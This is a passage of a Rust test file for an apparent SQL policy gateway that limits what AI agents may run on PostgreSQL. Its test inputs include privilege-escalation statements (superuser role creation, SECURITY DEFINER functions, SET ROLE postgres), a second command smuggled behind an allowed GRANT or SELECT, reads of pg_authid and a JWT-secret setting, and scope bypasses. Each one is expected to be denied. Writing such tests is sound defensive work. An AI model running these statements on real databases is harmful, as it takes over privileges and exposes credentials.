            "SELECT s.username FROM ((orders o JOIN customers c ON c.id = o.customer_id) JOIN staff_users s ON true)",
            "table_denied",
        ),
        (
            A,
            "SELECT c.email FROM orders o JOIN (customers c JOIN refunds r ON r.order_id = 1) ON c.id = o.customer_id",
            "column_denied",
        ),
    ]);
}

/// Issue 11, item 7: roles are cluster objects. An agent allowed `dcl`
/// (to GRANT on tables) and `ddl` may not create, alter or drop roles,
/// users and groups, grant role membership, change default privileges,
/// hand objects to another role or create SECURITY DEFINER code: those
/// need the `roles` or `ownership` class, which no other class implies.
/// Role-related statements the parser does not take are refused anyway.
#[test]
fn role_management_needs_explicit_classes() {
    const G: &str = "grantor";
    const R: &str = "role-admin";
    const DENIED: &str = "role_management_denied";
    // Statements of the `roles` class: refused for G (and for every agent
    // without the class), allowed for R.
    let roles = [
        "CREATE ROLE evil SUPERUSER LOGIN",
        "CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x'",
        "CREATE ROLE evil CREATEROLE CREATEDB BYPASSRLS",
        "CREATE USER evil",
        "CREATE GROUP admins",
        "ALTER ROLE analytics SUPERUSER",
        "ALTER ROLE analytics WITH CREATEROLE CREATEDB",
        "ALTER ROLE analytics RENAME TO a2",
        "ALTER ROLE analytics SET search_path = evil",
        "ALTER ROLE ALL SET work_mem = '1MB'",
        "ALTER USER analytics PASSWORD 'x'",
        "ALTER USER analytics WITH SUPERUSER",
        "ALTER USER CURRENT_USER WITH PASSWORD 'x'",
        "DROP ROLE evil",
        "DROP ROLE IF EXISTS a, b",
        "DROP USER evil",
        "DROP GROUP admins",
        "GRANT postgres TO grantor",
        "GRANT pg_read_server_files TO grantor",
        "GRANT admins TO bob WITH ADMIN OPTION",
        "REVOKE admins FROM bob",
        "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob",
        "ALTER DEFAULT PRIVILEGES FOR ROLE postgres IN SCHEMA public GRANT ALL ON TABLES TO grantor",
        "ALTER DEFAULT PRIVILEGES REVOKE ALL ON FUNCTIONS FROM PUBLIC",
    ];
    // Statements of the `ownership` class (with `ddl`): the same.
    let ownership = [
        "ALTER TABLE orders OWNER TO bob",
        "ALTER TABLE orders OWNER TO CURRENT_USER",
        "ALTER TABLE IF EXISTS orders ADD COLUMN x int, OWNER TO bob",
        "ALTER SCHEMA public OWNER TO bob",
        "ALTER FUNCTION f() OWNER TO bob",
        "ALTER AGGREGATE a(int) OWNER TO bob",
        "ALTER COLLATION c OWNER TO bob",
        "ALTER TEXT SEARCH DICTIONARY d OWNER TO bob",
        "ALTER OPERATOR + (int, int) OWNER TO bob",
        "ALTER FUNCTION f() SECURITY DEFINER",
        "ALTER FUNCTION f(int) STABLE EXTERNAL SECURITY DEFINER",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'",
        "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER SET search_path = public AS 'SELECT 1'",
        // A function that switches role when called runs as that role too.
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = postgres AS 'SELECT 1'",
        "ALTER FUNCTION f() SET ROLE TO postgres",
    ];
    let mut cases = Vec::new();
    for sql in roles.iter().chain(&ownership) {
        cases.push((G, *sql, DENIED));
        cases.push((R, *sql, "allow"));
    }
    // The missing class is named first, whatever else the agent lacks:
    // analytics may only read, the tester may run any DDL in public but
    // not hand it away.
    for sql in roles.iter().chain(&ownership) {
        cases.push((A, *sql, DENIED));
        cases.push((T, *sql, DENIED));
    }
    check(&cases);

    check(&[
        // What `dcl` and `ddl` are for still works.
        (G, "GRANT SELECT ON orders TO bob", "allow"),
        (G, "REVOKE SELECT ON orders FROM bob", "allow"),
        (G, "GRANT SELECT, UPDATE (status) ON orders TO bob", "allow"),
        (G, "ALTER TABLE orders ADD COLUMN x int", "allow"),
        (
            G,
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
            "allow",
        ),
        (
            G,
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY INVOKER AS 'SELECT 1'",
            "allow",
        ),
        (G, "ALTER FUNCTION f() SECURITY INVOKER", "allow"),
        (G, "ALTER FUNCTION f() RENAME TO g", "allow"),
        (G, "ALTER FUNCTION f() SET search_path = public", "allow"),
        (T, "ALTER TABLE orders ADD COLUMN x int", "allow"),
        (
            T,
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
            "allow",
        ),
        // Smuggled behind an allowed statement.
        (
            G,
            "GRANT SELECT ON orders TO bob; CREATE ROLE evil SUPERUSER LOGIN",
            DENIED,
        ),
        (
            G,
            "SELECT id FROM orders; ALTER ROLE grantor SUPERUSER",
            DENIED,
        ),
        // Assigning a schema's owner at creation is ownership too; a schema
        // named after its owner stays a cluster object even when allowed.
        (G, "CREATE SCHEMA s AUTHORIZATION bob", DENIED),
        (G, "CREATE SCHEMA AUTHORIZATION bob", DENIED),
        (
            R,
            "CREATE SCHEMA AUTHORIZATION bob",
            "cluster_object_denied",
        ),
        (R, "CREATE SCHEMA s AUTHORIZATION bob", "table_not_allowed"),
        // The classes do not widen the table rules.
        (R, "ALTER TABLE customers OWNER TO bob", "table_not_allowed"),
        // An explicit deny still wins over everything.
        (A, "ALTER TABLE staff_users OWNER TO bob", "table_denied"),
        (
            R,
            "GRANT SELECT ON staff_users TO bob",
            "statement_class_denied|table_denied|allow",
        ),
        (R, "DROP DATABASE shop", "cluster_object_denied"),
        (R, "CREATE EXTENSION dblink", "cluster_object_denied"),
        // Acting as another role is never allowed: actgate pins the role
        // and the session authorization, whatever the classes.
        (G, "SET ROLE postgres", "setting_pinned"),
        (G, "SET LOCAL ROLE postgres", "setting_pinned"),
        (G, "RESET ROLE", "setting_pinned"),
        (G, "SET SESSION AUTHORIZATION postgres", "setting_pinned"),
        (G, "SET SESSION AUTHORIZATION DEFAULT", "setting_pinned"),
        (G, "RESET SESSION AUTHORIZATION", "setting_pinned"),
        (R, "SET ROLE postgres", "setting_pinned"),
        (R, "SET SESSION AUTHORIZATION postgres", "setting_pinned"),
        (R, "RESET ROLE", "setting_pinned"),
        // Forms the parser does not take are refused for everyone.
        (R, "REASSIGN OWNED BY grantor TO postgres", "parse_error"),
        (R, "DROP OWNED BY grantor", "parse_error"),
        (G, "REASSIGN OWNED BY grantor TO postgres", "parse_error"),
        (G, "DROP OWNED BY grantor", "parse_error"),
        (G, "ALTER GROUP admins ADD USER bob", "parse_error"),
        (G, "CREATE USER evil WITH PASSWORD 'x'", "parse_error"),
        (G, "CREATE USER evil SUPERUSER", "parse_error"),
        (G, "ALTER PROCEDURE p() SECURITY DEFINER", "parse_error"),
        (G, "ALTER ROUTINE r() OWNER TO bob", "parse_error"),
        (G, "ALTER TYPE t OWNER TO bob", "parse_error"),
        (G, "ALTER SEQUENCE s OWNER TO bob", "parse_error"),
        (G, "ALTER DATABASE shop OWNER TO bob", "parse_error"),
        (G, "ALTER VIEW v OWNER TO bob", "deny"),
        (G, "ALTER MATERIALIZED VIEW m OWNER TO bob", "deny"),
        (
            G,
            "CREATE PROCEDURE p() LANGUAGE sql SECURITY DEFINER AS $$ SELECT 1 $$",
            "parse_error",
        ),
    ]);
}

/// `col = ANY($n)` with an array parameter scopes a table: the Parse is
/// allowed, and every Bind must carry a one-dimensional array whose every
/// element is the claim (NULL elements and the empty array select no other
/// customer's rows, so they pass). Anything that is not a plain top-level
/// `= ANY` stays refused, as does every array actgate cannot read.
#[test]
fn array_parameter_scopes_checked_at_bind() {
    use common::policy::outcome_at_bind;
    let c42: &[(&str, &str)] = &[("customer_id", "42")];
    const SCOPED: &str = "scoped";
    let any = "SELECT id FROM orders WHERE customer_id = ANY($1)";
    let cases: &[(&str, &[Option<&str>], &str)] = &[
        (any, &[Some("{42}")], "allow"),
        (any, &[Some("{42,42}")], "allow"),
        (any, &[Some(r#"{"42", 042 }"#)], "allow"),
        (any, &[Some("{}")], "allow"),
        (any, &[Some("{42,NULL}")], "allow"),
        (any, &[Some("{NULL}")], "allow"),
        (any, &[Some("{43}")], "scope_violation"),
        (any, &[Some("{42,43}")], "scope_violation"),
        (any, &[Some(r#"{42,"43"}"#)], "scope_violation"),
        // A quoted NULL is the string, not the null value.
        (any, &[Some(r#"{"NULL"}"#)], "scope_violation"),
        (any, &[Some("{42,4\\3}")], "scope_violation"),
        // Arrays actgate cannot read the way PostgreSQL does.
        (any, &[Some("{{42},{43}}")], "parameter_unverifiable"),
        (any, &[Some("[1:1]={42}")], "parameter_unverifiable"),
        (any, &[Some("[0:1]={43,42}")], "parameter_unverifiable"),
        (any, &[Some("{4\"2\"}")], "parameter_unverifiable"),
        (any, &[Some("{42,}")], "parameter_unverifiable"),
        (any, &[Some("42")], "parameter_unverifiable"),
        (any, &[None], "parameter_unverifiable"),
        (any, &[], "parameter_unverifiable"),
        // Casts that keep the values, ANY's synonym SOME, more conditions.
        (
            "SELECT id FROM orders WHERE customer_id = ANY($1::int[])",
            &[Some("{42}")],
            "allow",
        ),
        (
            "SELECT id FROM orders WHERE customer_id = ANY($1::bigint[])",
            &[Some("{43}")],
            "scope_violation",
        ),
        (
            "SELECT id FROM orders WHERE customer_id = ANY(CAST($1 AS bigint[]))",
            &[Some("{42}")],
            "allow",
        ),
        (
            "SELECT id FROM orders WHERE customer_id = SOME($1)",
            &[Some("{42}")],
            "allow",
        ),
        (
            "SELECT id FROM orders WHERE status = 'paid' AND (customer_id = ANY($1))",
            &[Some("{42}")],
            "allow",
        ),
        (
            "UPDATE orders SET status = 'paid' WHERE customer_id = ANY($1) AND id = $2",
            &[Some("{42}"), Some("7")],
            "allow",
        ),
        (
            "UPDATE orders SET status = 'paid' WHERE customer_id = ANY($1) AND id = $2",
            &[Some("{43}"), Some("7")],
            "scope_violation",
        ),
        // ARRAY[…] of parameters: each parameter is checked.
        (
            "SELECT id FROM orders WHERE customer_id = ANY(ARRAY[$1])",
            &[Some("42")],
            "allow",
        ),
        (
            "SELECT id FROM orders WHERE customer_id = ANY(ARRAY[$1])",
            &[Some("43")],
            "scope_violation",
        ),
        (
            "SELECT id FROM orders WHERE customer_id = ANY(ARRAY[$1, $2])",
            &[Some("42"), Some("42")],
            "allow",
        ),
        (
            "SELECT id FROM orders WHERE customer_id = ANY(ARRAY[$1, $2])",
            &[Some("42"), Some("43")],
            "scope_violation",
        ),
        (
            "SELECT id FROM orders WHERE customer_id = ANY(ARRAY[$1]::bigint[])",
            &[Some("42")],
            "allow",
        ),
        // Still refused: not an equality with every element, or not at the
        // top of the WHERE clause. `= ALL` of an empty array is true for
        // every row.
        (
            "SELECT id FROM orders WHERE customer_id <> ANY($1)",
            &[Some("{42}")],
            "scope_missing",
        ),
        (
            "SELECT id FROM orders WHERE customer_id = ALL($1)",
            &[Some("{42}")],
            "scope_missing",
        ),
        (
            "SELECT id FROM orders WHERE customer_id = ANY($1) OR true",
            &[Some("{42}")],
            "scope_missing",
        ),
        (
            "SELECT id FROM orders WHERE customer_id = ANY($1) OR customer_id = 43",
            &[Some("{42}")],
            "scope_missing",
        ),
        (
            "SELECT id FROM orders WHERE NOT (customer_id = ANY($1))",
            &[Some("{42}")],
            "scope_missing",
        ),
        (
            "SELECT id FROM orders WHERE customer_id = ANY($1[1:1])",
            &[Some("{42}")],
            "scope_missing",
        ),
        (
            "SELECT id FROM orders WHERE customer_id = ANY($1 || 43)",
            &[Some("{42}")],
            "scope_missing",
        ),
        (
            "SELECT id FROM orders WHERE customer_id = ANY($1::varchar(1)[])",
            &[Some("{42}")],
            "scope_missing",
        ),
        (
            "SELECT id FROM orders WHERE customer_id = ANY('{42}'::bigint[])",
            &[],
            "scope_missing",
        ),
        (
            "SELECT id FROM orders WHERE customer_id = ANY(ARRAY[$1])",
            &[Some("{42,43}")],
            "scope_violation",
        ),
    ];
    let mut failures = Vec::new();
    for (sql, params, expected) in cases {
        let got = outcome_at_bind(SCOPED, sql, c42, params);
        if got != *expected {
            failures.push(format!(
                "  {sql} {params:?}\n      expected {expected}, got {got}"
            ));
        }
    }
    // With no Bind to come, an array parameter cannot be checked.
    let simple = common::policy::outcome_with_claims(SCOPED, any, c42);
    if simple != "scope_parameter" {
        failures.push(format!(
            "  simple Query {any}: expected scope_parameter, got {simple}"
        ));
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// `current_setting($n)` and `set_config($n, …)` are decided at Bind with
/// the bound name, exactly as the literal form would be (SQLAlchemy's
/// reflection sends `current_setting($1::VARCHAR)`); with no Bind to come
/// they are refused.
#[test]
fn setting_names_bound_at_bind() {
    use common::policy::outcome_at_bind;
    let reflection = "SELECT pg_catalog.pg_class.oid, pg_catalog.pg_class.relname, CASE WHEN (pg_catalog.pg_am.amname IS NOT NULL AND pg_catalog.pg_am.amname != current_setting($1::VARCHAR)) THEN pg_catalog.pg_am.amname ELSE NULL END AS access_method_name FROM pg_catalog.pg_class LEFT OUTER JOIN pg_catalog.pg_am ON pg_catalog.pg_class.relam = pg_catalog.pg_am.oid WHERE pg_catalog.pg_class.relkind = ANY (ARRAY[$2::VARCHAR, $3::VARCHAR])";
    let cases: &[(&str, &str, &[Option<&str>], &str)] = &[
        (
            A,
            reflection,
            &[Some("default_table_access_method"), Some("r"), Some("p")],
            "allow",
        ),
        (
            A,
            reflection,
            &[Some("app.jwt_secret"), Some("r"), Some("p")],
            "setting_denied",
        ),
        (
            A,
            "SELECT current_setting($1)",
            &[Some("search_path")],
            "allow",
        ),
        (
            A,
            "SELECT current_setting($1)",
            &[Some("Server_Version_Num")],
            "allow",
        ),
        (
            A,
            "SELECT current_setting($1::text, true)",
            &[Some("standard_conforming_strings")],
            "allow",
        ),
        (
            A,
            "SELECT current_setting($1, $2)",
            &[Some("search_path"), Some("true")],
            "allow",
        ),
        (
            A,
            "SELECT current_setting($1)",
            &[Some("app.user_id")],
            "setting_denied",
        ),
        (
            A,
            "SELECT current_setting($1::varchar, true)",
            &[Some("APP.JWT_SECRET")],
            "setting_denied",
        ),
        (
            A,
            "SELECT current_setting($1)",
            &[None],
            "parameter_unverifiable",
        ),
        (
            A,
            "SELECT current_setting($2)",
            &[Some("search_path")],
            "parameter_unverifiable",
        ),
        // A cast that could change the name, or a computed name: refused.
        (
            A,
            "SELECT current_setting($1::varchar(3))",
            &[Some("sea")],
            "unsupported_statement",
        ),
        (
            A,
            "SELECT current_setting($1 || '')",
            &[Some("search_path")],
            "unsupported_statement",
        ),
        (
            A,
            "SELECT current_setting(upper($1))",
            &[Some("search_path")],
            "unsupported_statement",
        ),
        // set_config by parameter: the rules of the literal form.
        (
            A,
            "SELECT set_config($1, $2, false)",
            &[Some("statement_timeout"), Some("0")],
            "allow",
        ),
        (
            A,
            "SELECT set_config($1, $2, false)",
            &[Some("role"), Some("postgres")],
            "setting_pinned",
        ),
        (
            A,
            "SELECT set_config($1, $2, false)",
            &[Some("app.user_id"), Some("1")],
            "setting_denied",
        ),
        (
            T,
            "SELECT set_config($1, $2, false)",
            &[Some("statement_timeout"), Some("5s")],
            "allow",
        ),
        (
            T,
            "SELECT set_config($1::text, 'x', true)",
            &[Some("application_name")],
            "allow",
        ),
        (
            T,
            "SELECT set_config($1, $2, false)",
            &[Some("search_path"), Some("evil")],
            "setting_pinned",
        ),
        (
            T,
            "SELECT set_config($1, $2, false)",
            &[Some("ROLE"), Some("postgres")],
            "setting_pinned",
        ),
        (
            T,
            "SELECT set_config($1, $2, false)",
            &[Some("session_authorization"), Some("postgres")],
            "setting_pinned",
        ),
        (
            T,
            "SELECT set_config($1, $2, false)",
            &[Some("standard_conforming_strings"), Some("off")],
            "setting_pinned",
        ),
        (
            T,
            "SELECT set_config($1, $2, false)",
            &[Some("client_encoding"), Some("SJIS")],
            "setting_pinned",
        ),
        (
            T,
            "SELECT set_config($1, $2, false)",
            &[Some("app.user_id"), Some("1")],
            "setting_denied",
        ),
        (
            T,
            "SELECT set_config($1, $2, false)",
            &[Some(" role"), Some("postgres")],
            "setting_denied",
        ),
        (
            T,
            "SELECT set_config($1, $2, false)",
            &[None, Some("x")],
            "parameter_unverifiable",
        ),
        (
            T,
            "SELECT current_setting($1)",
            &[Some("search_path")],
            "allow",
        ),
        // Each call is checked, in FROM too.
        (
            T,
            "SELECT * FROM set_config($1, 'x', false), current_setting($2)",
            &[Some("application_name"), Some("search_path")],
            "allow",
        ),
        (
            T,
            "SELECT * FROM set_config($1, 'x', false), current_setting($2)",
            &[Some("application_name"), Some("role")],
            "allow",
        ),
        (
            T,
            "SELECT * FROM set_config($2, 'x', false), current_setting($1)",
            &[Some("application_name"), Some("role")],
            "setting_pinned",
        ),
    ];
    let mut failures = Vec::new();
    for (agent, sql, params, expected) in cases {
        let got = outcome_at_bind(agent, sql, &[], params);
        if got != *expected {
            failures.push(format!(
                "  [{agent}] {sql} {params:?}\n      expected {expected}, got {got}"
            ));
        }
    }
    // No Bind to come: a simple Query, a SQL PREPARE.
    for (agent, sql) in [
        (A, "SELECT current_setting($1)"),
        (T, "SELECT set_config($1, 'x', false)"),
        (T, "PREPARE p (text) AS SELECT current_setting($1)"),
        (T, "PREPARE p (text) AS SELECT set_config($1, 'x', false)"),
    ] {
        let got = common::policy::outcome(agent, sql);
        if got != "setting_parameter" {
            failures.push(format!(
                "  [{agent}] simple Query {sql}: expected setting_parameter, got {got}"
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// The rule a denial names in its DETAIL (issue 12, "What the agent
/// reads"): the key that decided, in its file relative to the rules
/// directory, never the server's path; table-level rules by their own key
/// rather than the agent's.
#[test]
fn denials_name_the_rule_that_applied() {
    use actgate::policy::{StaticClaims, Verdict};
    let claims = StaticClaims(
        [("customer_id".to_string(), "42".to_string())]
            .into_iter()
            .collect(),
    );
    let cases: &[(&str, &str, &str, &str)] = &[
        (
            A,
            "SELECT email FROM customers",
            "column_denied",
            "analytics.toml: tables.customers.columns",
        ),
        (
            A,
            "SELECT created_by FROM refunds",
            "column_denied",
            "analytics.toml: tables.refunds.columns",
        ),
        (
            S,
            "SELECT marketing_opt_in FROM customers",
            "column_denied",
            "support-desk.toml: tables.customers.deny_columns",
        ),
        (
            S,
            "UPDATE orders SET total_cents = 0 WHERE id = 1",
            "column_denied",
            "support-desk.toml: tables.orders.write_columns",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents) VALUES (1, 90000)",
            "value_limit",
            "support-desk.toml: tables.refunds.limits.amount_cents",
        ),
        (
            S,
            "INSERT INTO products (id) VALUES (1)",
            "operation_not_allowed",
            "support-desk.toml: tables.products.operations",
        ),
        (
            "scoped",
            "SELECT id FROM orders",
            "scope_missing",
            "scoped.toml: tables.orders.scope.customer_id",
        ),
        (
            "scoped",
            "SELECT id FROM orders WHERE customer_id = 7",
            "scope_violation",
            "scoped.toml: tables.orders.scope.customer_id",
        ),
        (
            "scoped",
            "UPDATE orders SET status = 'lost' WHERE customer_id = 42",
            "value_limit",
            "scoped.toml: tables.orders.limits.status",
        ),
        (
            A,
            "DELETE FROM orders WHERE id = 1",
            "statement_class_denied",
            "analytics.toml: policy.statements",
        ),
        (
            A,
            "SELECT * FROM staff_users",
            "table_denied",
            "analytics.toml: deny.tables",
        ),
        (
            A,
            "SELECT * FROM pg_authid",
            "credential_catalog",
            "builtin.credential_catalogs",
        ),
        (
            A,
            "SET search_path = other",
            "setting_pinned",
            "builtin.pinned_settings",
        ),
        (A, "selec 1", "parse_error", "builtin.analysis"),
        // An unknown table and a known one without a rule are refused
        // alike: nothing tells whether it exists.
        (
            "limited",
            "SELECT * FROM customers",
            "table_not_allowed",
            "default_deny",
        ),
        (
            "limited",
            "SELECT * FROM no_such_table",
            "table_not_allowed",
            "default_deny",
        ),
    ];
    let mut failures = Vec::new();
    for (agent, sql, reason, rule) in cases {
        let got = match common::policy::verdict_with(agent, sql, &Default::default(), Some(&claims))
        {
            Verdict::Allow => "allow".to_owned(),
            Verdict::Deny(d) => {
                assert!(!d.rule.contains('/'), "[{agent}] {sql}: {}", d.rule);
                assert_eq!(
                    d.detail(),
                    format!("reason: {}; rule: {}", d.reason, d.rule)
                );
                format!("{} ({})", d.reason, d.rule)
            }
        };
        if !reason.split('|').any(|r| got == format!("{r} ({rule})")) {
            failures.push(format!(
                "  [{agent}] {sql}\n      expected {reason} ({rule}), got {got}"
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));

    // Unknown and unlisted tables: the same words, but for the name.
    let refusal = |sql: &str| match common::policy::verdict("limited", sql) {
        Verdict::Deny(d) => (d.message, d.hint),
        Verdict::Allow => panic!("{sql} allowed"),
    };
    let (known, known_hint) = refusal("SELECT * FROM customers");
    let (unknown, unknown_hint) = refusal("SELECT * FROM no_such_table");
    assert_eq!(known.replace("customers", "no_such_table"), unknown);
    assert_eq!(known_hint, unknown_hint);
}

/// Row limits and write caps name the rule that set them: a table's own
/// `max_rows` when it is the smallest (or ties), the agent's otherwise.
#[test]
fn row_limits_and_write_caps_name_their_rule() {
    use common::policy::{analysis, policy};
    let limit = |agent: &str, sql: &str| {
        let l = policy(agent)
            .row_limit(&analysis(sql), false)
            .unwrap()
            .unwrap_or_else(|| panic!("{sql}: no limit"));
        (l.max, l.rule.to_string())
    };
    for (agent, sql, max, rule) in [
        (
            "limited",
            "SELECT id FROM orders",
            5,
            "limited.toml: policy.max_rows",
        ),
        (
            "limited",
            "SELECT id FROM products",
            3,
            "limited.toml: tables.products.max_rows",
        ),
        (
            "limited",
            "SELECT o.id FROM orders o JOIN products p ON p.id = o.id",
            3,
            "limited.toml: tables.products.max_rows",
        ),
        (
            "limited-trunc",
            "SELECT id FROM products",
            3,
            "limited-trunc.toml: tables.products.max_rows",
        ),
        (
            "pipeline",
            "SELECT id FROM orders",
            5,
            "pipeline.toml: policy.max_rows",
        ),
    ] {
        assert_eq!(limit(agent, sql), (max, rule.to_owned()), "[{agent}] {sql}");
    }
    // In error mode a simple-protocol message with effects is refused by
    // the same rule.
    let d = policy("limited")
        .row_limit(&analysis("SELECT id FROM products; COMMIT"), true)
        .unwrap_err();
    assert_eq!(
        (d.reason, d.rule.as_str()),
        (
            "row_limit_side_effects",
            "limited.toml: tables.products.max_rows"
        )
    );
    // A single write with RETURNING is run so that it can be undone.
    let writer = policy("limited-writer");
    let l = writer
        .row_limit(
            &analysis("UPDATE orders SET notes = 'x' WHERE id < 9 RETURNING id"),
            true,
        )
        .unwrap()
        .expect("limited");
    assert!(l.undo, "{l:?}");
    let read = writer
        .row_limit(&analysis("SELECT id FROM orders"), true)
        .unwrap()
        .expect("limited");
    assert!(!read.undo);
    // Reads alone or in a block the message opens (and may commit) pass;
    // other transaction control, or a write among them, does not.
    let limited = policy("limited");
    for (sql, block) in [
        (
            "SELECT id FROM orders; SELECT id FROM products",
            Some(false),
        ),
        ("BEGIN; SELECT id FROM orders; COMMIT", Some(true)),
        ("BEGIN; SELECT id FROM orders", Some(true)),
        (
            "START TRANSACTION READ ONLY; SELECT id FROM orders; END",
            Some(true),
        ),
        ("SELECT id FROM orders; COMMIT", None),
        ("BEGIN; SELECT id FROM orders; ROLLBACK", None),
        ("BEGIN; SELECT id FROM orders; COMMIT; SELECT 1", None),
        ("SAVEPOINT a; SELECT id FROM orders", None),
        ("SELECT id FROM orders FOR UPDATE; SELECT 1", None),
    ] {
        let got = limited
            .row_limit(&analysis(sql), true)
            .map(|l| l.map(|l| l.block));
        match block {
            Some(b) => assert_eq!(got.ok().flatten(), Some(b), "{sql}"),
            None => assert_eq!(
                got.err().map(|d| d.reason),
                Some("row_limit_side_effects"),
                "{sql}"
            ),
        }
    }
    // Two statements, one of them a write, are still refused.
    let d = writer
        .row_limit(
            &analysis("UPDATE orders SET notes = 'x' WHERE id < 9 RETURNING id; SELECT 1"),
            true,
        )
        .unwrap_err();
    assert_eq!(d.reason, "row_limit_side_effects");
    let capped = policy("capped");
    let cap = capped
        .write_cap(&analysis("UPDATE orders SET notes = 'x' WHERE id = 1"))
        .unwrap()
        .unwrap();
    assert_eq!(
        (cap.max, &*cap.rule),
        (3, "capped.toml: tables.orders.max_affected_rows")
    );
    let d = capped
        .write_cap(&analysis(
            "UPDATE orders SET notes = 'x' WHERE id = 1; SELECT 1",
        ))
        .unwrap_err();
    assert_eq!(
        (d.reason, d.rule.as_str()),
        (
            "write_cap_multi_statement",
            "capped.toml: tables.orders.max_affected_rows"
        )
    );
}
